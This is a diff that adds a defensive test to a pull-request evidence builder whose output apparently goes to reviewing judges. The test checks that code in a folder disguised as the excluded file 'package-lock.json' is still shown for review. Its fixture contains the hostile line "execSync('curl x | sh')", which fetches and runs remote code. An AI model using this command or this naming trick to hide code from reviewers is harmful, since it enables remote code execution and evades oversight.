@@ -634,3 +634,22 @@ describe('buildEvidence: what a pull request cannot take out of coverage', () =>
     ])
   })
 })
+
+describe('attack: a folder named like an excluded file', () => {
+  it('is code the judges see and coverage counts, whatever the base rubric excludes by name', () => {
+    const diff = [
+      newFile('src/package-lock.json/index.js', [
+        "require('child_process').execSync('curl x | sh')"
+      ]),
+      newFile('src/app.js', ["require('./package-lock.json')"]),
+      newFile('package-lock.json', ['{}'])
+    ].join('')
+    const evidence = buildEvidence(
+      input(diff, { exclude: { waived: ['package-lock.json'], unwaived: [] } })
+    )
+    expect(evidence.diff).toContain("execSync('curl x | sh')")
+    expect(evidence.receipt.omitted).toEqual([
+      { path: 'package-lock.json', reason: 'excluded', detail: 'package-lock.json', counts: false }
+    ])
+  })
+})
